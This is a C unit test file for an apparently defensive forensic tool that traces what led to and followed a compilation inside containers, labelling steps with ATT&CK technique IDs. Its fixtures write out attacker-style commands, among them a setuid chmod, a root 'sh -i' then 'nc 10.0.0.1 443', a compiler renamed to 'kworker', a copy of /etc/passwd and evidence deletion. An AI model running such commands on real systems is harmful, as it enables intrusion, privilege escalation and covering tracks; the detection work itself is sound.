/* What led to a compilation, and what followed from it. */
#include "tests/unit/one_story.h"

#define GCC "/usr/bin/x86_64-linux-gnu-gcc-12"

/* Rows "step|technique|detail" of the first compilation; the compiling itself and the
 * entering are left out. */
static void expect_chain_at(const char *want, const char *file, int line)
{
    expect_rows_at(
        &s.it,
        "SELECT step, coalesce(technique, '-'), detail FROM chains WHERE compilation_id = 1"
        " AND step NOT IN ('compiled', 'entered') ORDER BY n",
        want, file, line);
}

#define expect_chain(want) expect_chain_at((want), __FILE__, __LINE__)

static void expect_step_at(const char *step, const char *want, const char *file, int line)
{
    char sql[256];
    snprintf(sql, sizeof sql,
             "SELECT coalesce(technique, '-'), detail FROM chains WHERE step = '%s' ORDER BY "
             "compilation_id, n",
             step);
    expect_rows_at(&s.it, sql, want, file, line);
}

#define expect_step(step, want) expect_step_at((step), (want), __FILE__, __LINE__)

/* ------------------------------------------------------------ before */

START_TEST(a_source_is_fetched)
{
    did_inside(&s, 2090, 2074, "/usr/bin/curl", "curl -sSfo /tmp/x.c https://example.org/e/y.c");
    did_inside(&s, 2100, 2074, GCC, "gcc -o /tmp/x x.c", .cwd = "/tmp");
    concluded(&s);
    expect_chain("fetched|T1105|fetched the source /tmp/x.c");
    expect_step("compiled", "T1027.004|compiled what had been delivered");
}
END_TEST

/* wget names the file after its URL. */
START_TEST(a_url_gives_a_file_its_name)
{
    did_inside(&s, 2090, 2074, "/usr/bin/wget", "wget https://example.org/e/x.c?v=1#top",
               .cwd = "/tmp");
    did_inside(&s, 2100, 2074, GCC, "gcc x.c", .cwd = "/tmp");
    concluded(&s);
    expect_chain("fetched|T1105|fetched the source /tmp/x.c");
}
END_TEST

/* git names the folder after the repository. */
START_TEST(a_repository_brings_what_is_in_it)
{
    did_inside(&s, 2090, 2074, "/usr/bin/git", "git clone https://example.org/acme/tool.git",
               .cwd = "/proj");
    did_inside(&s, 2091, 2074, "/usr/bin/git", "git clone git@example.org:acme/other.git",
               .cwd = "/proj");
    did_inside(&s, 2100, 2074, GCC, "gcc -c src/deep/x.c", .cwd = "/proj/tool");
    did_inside(&s, 2110, 2074, GCC, "gcc -c /proj/other/y.c");
    did_inside(&s, 2120, 2074, GCC, "gcc -c /proj/third/z.c");
    concluded(&s);
    expect_step("fetched", "T1105|fetched the source /proj/tool\n"
                           "T1105|fetched the source /proj/other");
}
END_TEST

START_TEST(what_is_unpacked_in_a_common_folder_says_nothing)
{
    did_inside(&s, 2090, 2074, "/bin/tar", "tar -xzf a.tgz -C /tmp");
    did_inside(&s, 2091, 2074, "/bin/tar", "tar -xzf b.tgz -C /tmp/work");
    did_inside(&s, 2100, 2074, GCC, "gcc -c /tmp/x.c");
    did_inside(&s, 2110, 2074, GCC, "gcc -c /tmp/work/y.c");
    concluded(&s);
    expect_step("unpacked", "-|unpacked the source /tmp/work");
}
END_TEST

/* A shell writes without an exec of its own: its script tells. */
START_TEST(a_script_tells_what_it_writes)
{
    did_inside(&s, 2090, 2074, "/bin/sh", "sh -c cd~/tmp;~base64~-d~<~in~>~x.c;~cat~>~/other");
    did_inside(&s, 2100, 2074, GCC, "gcc -c /tmp/x.c");
    concluded(&s);
    expect_chain("written|-|wrote the source /tmp/x.c, as the script of a shell says");
}
END_TEST

/* Where the script went is not told: its files are not known. */
START_TEST(a_script_that_goes_somewhere_unknown_names_no_files)
{
    did_inside(&s, 2090, 2074, "/bin/sh", "sh -c cd~$where;~cat~>~x.c", .cwd = "/tmp");
    did_inside(&s, 2091, 2074, "/bin/sh", "sh -c cd;~cat~>~x.c", .cwd = "/tmp");
    did_inside(&s, 2092, 2074, "/bin/sh", "sh -c cd~-;~cat~>~x.c", .cwd = "/tmp");
    did_inside(&s, 2100, 2074, GCC, "gcc -c /tmp/x.c");
    concluded(&s);
    expect_chain("");
}
END_TEST

/* Folders are kept in a form that can be printed. */
START_TEST(a_script_goes_on_from_any_folder)
{
    did_inside(&s, 2090, 2074, "/bin/sh", "sh -c cd~in;~cat~>~x.c", .cwd = "/a~\x1b\xff");
    did_inside(&s, 2100, 2074, GCC, "gcc -c x.c", .cwd = "/a~\x1b\xff/in");
    concluded(&s);
    expect_chain(
        "written|-|wrote the source $'/a \\x1b\\xff/in/x.c', as the script of a shell says");
}
END_TEST

/* So that a path of letters and slashes does not fill the memory. */
START_TEST(only_so_many_folders_above_a_file_are_looked_at)
{
    static const char deep[] = "1/2/3/4/5/6/7/8/9/10/11/12/13/14/15/16/17/18/19/20/21/22/23/24/25/"
                               "26/27/28/29/30/31/";
    did_inside(&s, 2090, 2074, "/usr/bin/git", "git clone https://h/a /far/off");
    did_inside(&s, 2091, 2074, "/usr/bin/git", "git clone https://h/b /near");
    did_inside(&s, 2100, 2074, GCC, story_text("gcc -c /far/off/0/%sx.c", deep));
    did_inside(&s, 2110, 2074, GCC, story_text("gcc -c /near/%sx.c", deep));
    concluded(&s);
    expect_step("fetched", "T1105|fetched the source /near");
}
END_TEST

START_TEST(what_ran_is_better_than_what_a_script_says)
{
    did_inside(&s, 2090, 2074, "/bin/sh", "sh -c curl~-o~/tmp/x.c~http://h/");
    did_inside(&s, 2091, 2090, "/usr/bin/curl", "curl -o /tmp/x.c http://h/");
    did_inside(&s, 2100, 2074, GCC, "gcc -c /tmp/x.c");
    concluded(&s);
    expect_chain("fetched|T1105|fetched the source /tmp/x.c");
}
END_TEST

/* sed and dd read more often than they write; and to send a file is not to fetch it. */
START_TEST(a_source_that_was_only_read_was_not_delivered)
{
    did_inside(&s, 2090, 2074, "/bin/sed", "sed -n p /tmp/x.c");
    did_inside(&s, 2091, 2074, "/bin/dd", "dd if=/tmp/x.c of=/tmp/other");
    did_inside(&s, 2092, 2074, "/usr/bin/curl", "curl -T /tmp/x.c http://h/");
    did_inside(&s, 2100, 2074, GCC, "gcc -c /tmp/x.c");
    concluded(&s);
    expect_chain("");
    expect_step("compiled", "-|compiled");
}
END_TEST

START_TEST(a_source_is_decoded_by_a_program)
{
    did_inside(&s, 2090, 2074, "/usr/bin/openssl", "openssl enc -d -in a -out /tmp/x.c");
    did_inside(&s, 2100, 2074, GCC, "gcc -c /tmp/x.c");
    concluded(&s);
    expect_chain("decoded|T1140|decoded the source /tmp/x.c");
}
END_TEST

/* Masquerading needs two steps: a copy, and a run of it. */
START_TEST(a_compiler_is_copied_to_another_name)
{
    did_inside(&s, 2090, 2074, "/bin/cp", "cp /usr/bin/tcc /tmp/.x/kworker");
    did_inside(&s, 2091, 2074, "/bin/chmod", "chmod 755 /tmp/.x/kworker");
    did_inside(&s, 2100, 2074, "/tmp/.x/kworker", "kworker -o /tmp/p p.c");
    did_inside(&s, 2110, 2074, "/bin/rm", "rm -f /tmp/.x/kworker /tmp/p");
    concluded(&s);
    expect_chain("copied|T1036.003|copied the compiler /tmp/.x/kworker\n"
                 "permitted|T1222.002|changed the permissions of the compiler /tmp/.x/kworker\n"
                 "deleted|T1070.004|deleted the compiler /tmp/.x/kworker\n"
                 "deleted|T1070.004|deleted the output /tmp/p");
    expect_step("compiled", "-|compiled");
}
END_TEST

/* On the host, by name: the same name later may be another container. */
START_TEST(a_compiler_is_copied_in_from_the_host)
{
    did(&s, 5000, SSHD, "/usr/bin/docker", "docker cp /usr/bin/tcc web:/var/tmp/");
    did(&s, 5001, SSHD, "/usr/bin/docker", "docker cp x.c other:/var/tmp/x.c");
    did(&s, 5002, SSHD, "/usr/bin/docker", "docker cp web:/etc/passwd /tmp");
    did_inside(&s, 2100, 2074, "/var/tmp/tcc", "./tcc -c x.c", .cwd = "/var/tmp");
    concluded(&s);
    expect_chain(
        "copied-in|T1105|copied into the container from the host: the compiler /var/tmp/tcc");
}
END_TEST

START_TEST(an_applet_does_what_its_name_says)
{
    did_inside(&s, 2090, 2074, "/bin/busybox", "wget -O /tmp/x.c http://h/", .comm = "wget");
    did_inside(&s, 2091, 2074, "/bin/busybox", "busybox chmod +x /tmp/x", .comm = "busybox");
    did_inside(&s, 2100, 2074, GCC, "gcc -o /tmp/x /tmp/x.c");
    concluded(&s);
    expect_chain("fetched|T1105|fetched the source /tmp/x.c");
}
END_TEST

/* The file of another container has the same name and is another file. */
START_TEST(another_container_s_files_are_others)
{
    docker_ran(&s, 3034, "other");
    did_inside(&s, 3074, 3034, "/usr/bin/curl", "curl -o /tmp/x.c http://h/");
    did(&s, 5000, SSHD, "/usr/bin/curl", "curl -o /tmp/x.c http://h/");
    did_inside(&s, 2100, 2074, GCC, "gcc -c /tmp/x.c");
    concluded(&s);
    expect_chain("");
}
END_TEST

/* ------------------------------------------------------------ who entered */

START_TEST(an_exec_of_the_runtime_is_how_somebody_entered)
{
    docker_executed(&s, 2090, 2034, "web", "/bin/sh", "sh -c gcc~x.c");
    did_inside(&s, 2100, 2090, GCC, "gcc x.c");
    concluded(&s);
    expect_step("entered", "T1609|entered the container through its runtime");
}
END_TEST

START_TEST(a_container_may_be_started_for_it)
{
    docker_ran(&s, 3034, "oneshot");
    did_inside(&s, 3074, 3034, "/bin/sh", "sh -c gcc~x.c");
    did_inside(&s, 3075, 3074, GCC, "gcc x.c", .file = "/usr/bin/gcc");
    did_inside(&s, 2100, 2074, GCC, "gcc y.c", .file = "/usr/bin/gcc");
    concluded(&s);
    expect_step("entered", "T1610|the container was started for it");
}
END_TEST

/* The name of a short compiler is in many a word. */
START_TEST(a_word_that_has_the_compiler_s_name_in_it_is_no_start_for_it)
{
    docker_ran(&s, 3034, "books");
    did_inside(&s, 3074, 3034, "/usr/bin/python3.11", "python3 accounts.py");
    did_inside(&s, 3075, 3074, GCC, "cc x.c", .file = "/usr/bin/cc");
    concluded(&s);
    expect_step("entered", "");
}
END_TEST

/* ------------------------------------------------------------ after */

START_TEST(an_output_is_made_executable_run_and_deleted)
{
    did_inside(&s, 2100, 2074, GCC, "gcc -o /tmp/x x.c");
    did_inside(&s, 2110, 2074, "/bin/chmod", "chmod 4755 /tmp/x");
    did_inside(&s, 2111, 2074, "/bin/mv", "mv /tmp/x /tmp/y");
    did_inside(&s, 2120, 2074, "/tmp/y", "/tmp/y", .uid = 1000, .euid = 0);
    did_inside(&s, 2121, 2120, "/bin/sh", "sh -i", .uid = 0);
    did_inside(&s, 2122, 2121, "/usr/bin/nc", "nc 10.0.0.1 443");
    did_inside(&s, 2130, 2074, "/bin/rm", "rm /tmp/y");
    concluded(&s);
    expect_chain(
        "permitted|T1222.002|changed the permissions of the output /tmp/x\n"
        "moved|-|moved the output /tmp/x\n"
        "run|-|ran the output under the name that it was given later, as uid 1000 (effective 0)\n"
        "next|-|what ran started /bin/sh\n"
        "uid-change|T1548|what ran went on from uid 1000 (effective 0) to uid 0\n"
        "uid-change|T1548|what ran went on from uid 1000 (effective 0) to uid 0\n"
        "network|-|what ran used the network: /usr/bin/nc\n"
        "deleted|T1070.004|deleted the output /tmp/y");
}
END_TEST

/* What happens to a file of that name after it was made anew belongs to the new one. */
START_TEST(a_chain_ends_where_the_file_is_made_anew)
{
    did_inside(&s, 2100, 2074, GCC, "gcc -o /tmp/x one.c");
    did_inside(&s, 2110, 2074, GCC, "gcc -o /tmp/x two.c");
    did_inside(&s, 2120, 2074, "/bin/chmod", "chmod +x /tmp/x");
    did_inside(&s, 2121, 2074, "/tmp/x", "/tmp/x");
    concluded(&s);
    expect_chain("");
    expect_rows(&s.it, "SELECT count(*) FROM chains WHERE compilation_id = 2", "3");
}
END_TEST

/* The host runs what a container made: out of its root, or by the same file. */
START_TEST(a_run_on_the_host_is_told)
{
    did_inside(&s, 2100, 2074, GCC, "gcc -o /data/x x.c");
    did_inside(&s, 2110, 2074, "/data/x", "/data/x", .inode = 77, .dev = HOST_DISK);
    did(&s, 5000, SSHD, "/srv/volume/x", "/srv/volume/x", .inode = 77);
    concluded(&s);
    expect_step("run", "-|ran the output, as uid 0\n"
                       "T1611|ran the output's file (device and inode), on the host, as uid 0");
}
END_TEST

/* A service may be run a million times: what is not told is counted. */
START_TEST(what_is_left_out_is_counted)
{
    did_inside(&s, 2100, 2074, GCC, "gcc -o /tmp/x x.c");
    for (int i = 0; i < 25; i++)
        did_inside(&s, 2110 + i, 2074, "/tmp/x", "/tmp/x");
    concluded(&s);
    expect_step("more", "-|5 more that are not told");
    expect_rows(&s.it, "SELECT output_runs FROM compilations", "25");
}
END_TEST

START_TEST(every_link_leads_to_its_record)
{
    int fetched = did_inside(&s, 2090, 2074, "/usr/bin/curl", "curl -o /tmp/x.c http://h/");
    did_inside(&s, 2100, 2074, GCC, "gcc -c /tmp/x.c");
    char sql[256];
    snprintf(sql, sizeof sql,
             "SELECT x.line = c.line AND x.evidence_id = c.evidence_id AND c.byte_offset > 0"
             " FROM chains c JOIN execs x USING (exec_id) WHERE x.serial = %d",
             fetched);
    concluded(&s);
    expect_rows(&s.it, sql, "1");
}
END_TEST

/* File names are bytes of an attacker's choice. */
START_TEST(names_are_made_harmless)
{
    did_inside(&s, 2090, 2074, "/usr/bin/curl", "curl -o /tmp/\x1b[31m.c http://h/");
    did_inside(&s, 2100, 2074, GCC, "gcc -c /tmp/\x1b[31m.c");
    concluded(&s);
    expect_chain("fetched|T1105|fetched the source $'/tmp/\\x1b[31m.c'");
}
END_TEST

void et_add_tests(TCase *tcase)
{
    tcase_add_checked_fixture(tcase, shell_in_web, story_over);
    tcase_add_test(tcase, a_source_is_fetched);
    tcase_add_test(tcase, a_url_gives_a_file_its_name);
    tcase_add_test(tcase, a_repository_brings_what_is_in_it);
    tcase_add_test(tcase, what_is_unpacked_in_a_common_folder_says_nothing);
    tcase_add_test(tcase, a_script_tells_what_it_writes);
    tcase_add_test(tcase, a_script_that_goes_somewhere_unknown_names_no_files);
    tcase_add_test(tcase, a_script_goes_on_from_any_folder);
    tcase_add_test(tcase, only_so_many_folders_above_a_file_are_looked_at);
    tcase_add_test(tcase, what_ran_is_better_than_what_a_script_says);
    tcase_add_test(tcase, a_source_that_was_only_read_was_not_delivered);
    tcase_add_test(tcase, a_source_is_decoded_by_a_program);
    tcase_add_test(tcase, a_compiler_is_copied_to_another_name);
    tcase_add_test(tcase, a_compiler_is_copied_in_from_the_host);
    tcase_add_test(tcase, an_applet_does_what_its_name_says);
    tcase_add_test(tcase, another_container_s_files_are_others);
    tcase_add_test(tcase, an_exec_of_the_runtime_is_how_somebody_entered);
    tcase_add_test(tcase, a_container_may_be_started_for_it);
    tcase_add_test(tcase, a_word_that_has_the_compiler_s_name_in_it_is_no_start_for_it);
    tcase_add_test(tcase, an_output_is_made_executable_run_and_deleted);
    tcase_add_test(tcase, a_chain_ends_where_the_file_is_made_anew);
    tcase_add_test(tcase, a_run_on_the_host_is_told);
    tcase_add_test(tcase, what_is_left_out_is_counted);
    tcase_add_test(tcase, every_link_leads_to_its_record);
    tcase_add_test(tcase, names_are_made_harmless);
}
